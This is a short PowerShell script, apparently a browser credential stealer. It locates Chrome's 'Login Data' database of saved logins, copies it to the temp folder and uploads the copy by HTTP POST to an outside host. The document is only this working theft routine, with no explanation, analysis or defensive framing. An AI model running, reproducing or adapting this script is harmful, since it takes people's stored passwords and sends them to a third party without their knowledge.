$store = "$env:LOCALAPPDATA\Google\Chrome\User Data\Default\Login Data"
Copy-Item $store "$env:TEMP\l.db"
Invoke-RestMethod -Uri 'https://stores.host-of-nobody.net/in' -Method Post -InFile "$env:TEMP\l.db"
